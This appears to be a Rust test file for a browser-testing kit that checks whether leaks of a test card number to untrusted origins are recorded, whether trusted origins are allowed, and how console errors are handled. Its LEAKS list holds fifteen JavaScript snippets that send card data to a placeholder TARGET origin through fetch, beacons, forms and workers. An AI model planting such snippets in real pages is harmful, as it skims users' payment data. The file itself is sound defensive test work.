//! The record of a browser: every request and console error is recorded, and a leaked card fails the test.

use anyhow::{Context, Result};
use testkit::{
    browser::{Browser, Device, Secret, Site, browse},
    eventually,
};

const NUMBER: &str = "4242424242424242";
const CODE: &str = "739";

/// A page with this script, in which `TARGET` stands for the URL of the other origin.
fn page(script: &str, target: &str) -> String {
    format!("<!doctype html><title>Page</title><body><script>{}</script>", script.replace("TARGET", target))
}

/// Ways to send a card to another origin, each with the part of the request that contains the card.
const LEAKS: [(&str, &str); 15] = [
    ("URL", "fetch('TARGET?n=4242424242424242')"),
    ("URL", "fetch('TARGET?n=4242%204242%204242%204242')"),
    ("URL", "new Image().src = 'TARGET?739'"),
    ("URL", "const s = document.createElement('script'); s.src = 'TARGET?739'; document.body.append(s)"),
    ("URL", "location = 'TARGET?c=739'"),
    ("URL", "document.body.innerHTML = '<iframe src=\"TARGET?c=739\">'"),
    ("headers", "fetch('TARGET', {headers: {'x-card': '4242-4242-4242-4242'}})"),
    ("body", "fetch('TARGET', {method: 'POST', body: 'a=b&cvc=739'})"),
    ("body", "fetch('TARGET', {method: 'POST', body: new Blob(['{\"cvc\":\"739\"}'])})"),
    ("body", "fetch('TARGET', {method: 'POST', body: 'x'.repeat(100000) + ' 739'})"),
    ("body", "navigator.sendBeacon('TARGET', 'number=4242+4242+4242+4242')"),
    ("body", "const r = new XMLHttpRequest(); r.open('POST', 'TARGET'); r.send(new URLSearchParams({a: '739'}))"),
    (
        "body",
        "document.body.innerHTML = '<form method=post action=TARGET><input name=n value=739></form>'; \
         document.forms[0].submit()",
    ),
    (
        "body",
        "document.body.innerHTML = '<form method=post action=TARGET enctype=multipart/form-data>\
         <input name=n value=4242424242424242></form>'; document.forms[0].submit()",
    ),
    ("body", "new Worker(URL.createObjectURL(new Blob(['fetch(\"TARGET\", {method: \"POST\", body: \"739\"})'])))"),
];

fn register_card(browser: &Browser) {
    browser.add_secret(Secret::CardNumber(NUMBER.into()));
    browser.add_secret(Secret::SecurityCode(CODE.into()));
}

/// Each leak from the page itself, and some from a frame of another site, which has its own browser process.
#[tokio::test]
async fn every_leak_of_a_card_is_recorded() -> Result<()> {
    let result = browse(Device::Desktop, async |browser| {
        register_card(browser);
        let (tab, target) = (browser.tab().await?, Site::start()?);
        for (i, (part, script)) in LEAKS.into_iter().enumerate() {
            for framed in if i % 3 == 0 { &[false, true][..] } else { &[false] } {
                let sink = format!("/{i}-{framed}");
                let target = target.clone().page(&sink, "");
                let source = Site::start()?.page("/", &page(script, &format!("{}{sink}", target.origin())));
                let frame = format!("<!doctype html><iframe src=\"{}/\"></iframe>", source.localhost_origin());
                let outer = Site::start()?.page("/", &frame);
                tab.open(&if *framed { outer.origin() } else { source.origin() }).await?;
                let is_expected = |leak: &String| leak.contains(&format!("in the {part} of")) && leak.ends_with(&sink);
                let recorded =
                    eventually("the leak", async || Ok(browser.leaks().await?.iter().any(is_expected).then_some(())))
                        .await;
                recorded.context(script)?;
            }
        }
        Ok(())
    })
    .await;
    let result = result.expect_err("the test must fail").to_string();
    assert!(result.starts_with("secrets were sent to untrusted origins"), "{result}");
    assert!(result.lines().count() > LEAKS.len(), "{result}");
    Ok(())
}

#[tokio::test]
async fn cookies_are_searched() -> Result<()> {
    let script = "document.cookie = 'n=4242424242424242'; fetch('/next')";
    let site = Site::start()?.page("/", &page(script, "")).page("/next", "");
    let result = browse(Device::Desktop, async |browser| {
        register_card(browser);
        browser.tab().await?.open(&site.origin()).await?;
        let is_expected = |leak: &String| leak.contains("in the headers of GET") && leak.ends_with("/next");
        eventually("the leak", async || Ok(browser.leaks().await?.iter().any(is_expected).then_some(()))).await
    })
    .await;
    assert!(result.expect_err("a leak").to_string().starts_with("secrets were sent to untrusted origins"));
    Ok(())
}

#[tokio::test]
async fn a_card_may_be_sent_to_a_trusted_origin() -> Result<()> {
    let trusted = Site::start()?.page("/", "");
    let script = "fetch('TARGET', {method: 'POST', body: '4242424242424242 739'}).then(() => document.title = 'sent')";
    let site = Site::start()?.page("/", &page(script, &format!("{}/", trusted.origin())));
    browse(Device::Desktop, async |browser| {
        register_card(browser);
        browser.trust(&trusted.origin());
        let tab = browser.tab().await?;
        tab.open(&site.origin()).await?;
        tab.top().wait("document.title === 'sent'").await?;
        let requests = browser.requests();
        let sent = requests.iter().find(|request| request.origin() == trusted.origin());
        assert_eq!(
            sent.map(|request| (request.method.as_str(), request.text())),
            Some(("POST", format!("{NUMBER} {CODE}")))
        );
        assert!(requests.iter().any(|request| request.origin() == site.origin() && request.method == "GET"));
        Ok(())
    })
    .await
}

/// Markup of a page, and the console error that it causes.
const CONSOLE_ERRORS: [(&str, &str); 7] = [
    ("<script>console.error('went', 'wrong')</script>", "console: went wrong"),
    ("<script>setTimeout(() => { throw new Error('thrown') })</script>", "Error: thrown"),
    ("<script>Promise.reject(new Error('rejected'))</script>", "Error: rejected"),
    ("<script>alert('stop')</script>", "a dialog: stop"),
    ("<script src=/missing.js></script>", "status of 404"),
    ("<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>", "img-src 'none'"),
    ("<p style='color: red'>Red</p>", "style-src 'none'"),
];

#[tokio::test]
async fn unexpected_console_errors_fail_the_test() -> Result<()> {
    let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'none'; style-src 'none'\">";
    for is_expected in [true, false] {
        let result = browse(Device::Desktop, async |browser| {
            let tab = browser.tab().await?;
            for (markup, error) in CONSOLE_ERRORS {
                let inner = Site::start()?.page("/", &format!("<!doctype html>{policy}<title>Page</title>{markup}"));
                let outer =
                    Site::start()?.page("/", &format!("<iframe src=\"{}\"></iframe>", inner.localhost_origin()));
                let count = || browser.console_errors().iter().filter(|other| other.contains(error)).count();
                for (times, address) in [(1, inner.origin()), (2, outer.origin())] {
                    tab.open(&address).await?;
                    eventually("the request", async || Ok((count() == times).then_some(()))).await.context(markup)?;
                }
                if is_expected {
                    browser.expect_console_error(error);
                }
            }
            Ok(())
        })
        .await;
        match result {
            Ok(()) => assert!(is_expected),
            Err(error) => {
                let error = error.to_string();
                assert!(!is_expected && error.starts_with("unexpected console errors"), "{error}");
                for (_, expected) in CONSOLE_ERRORS {
                    assert_eq!(error.matches(expected).count(), 2, "{error}");
                }
            }
        }
    }
    Ok(())
}

#[tokio::test]
async fn an_expected_console_error_must_occur() -> Result<()> {
    let site = Site::start()?.page("/", "<!doctype html><title>Quiet</title>");
    let result = browse(Device::Desktop, async |browser| {
        browser.expect_console_error("something");
        browser.tab().await?.open(&site.origin()).await
    })
    .await;
    assert_eq!(result.expect_err("no error occurred").to_string(), "no console error contains something");
    Ok(())
}
